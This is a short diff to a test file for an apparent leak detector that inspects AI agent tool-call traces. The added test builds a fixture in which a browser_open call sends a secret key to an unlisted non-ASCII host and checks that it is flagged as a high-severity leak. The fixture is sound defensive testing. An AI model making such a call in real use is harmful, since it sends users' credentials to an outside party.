@@ -80,3 +80,9 @@ def test_code_and_hosts_the_user_or_the_record_named_are_no_leak(tmp_path, tool,
     user = "Check my account please; call api.mybank.example with my key."
     findings = _findings(tmp_path, _trace(tool, arguments, user))
     assert not [f for f in findings if f.at_least("medium")], [f.summary for f in findings]
+
+
+def test_a_host_outside_ascii_with_no_scheme_is_a_destination(tmp_path):
+    trace = _trace("browser_open", {"url": f"böse-18.io/i?v={KEY}"})
+    found = [f for f in _findings(tmp_path, trace) if f.severity == "high"]
+    assert found and found[0].evidence["sink"]["destination"] == f"böse-18.io/i?v={KEY}"
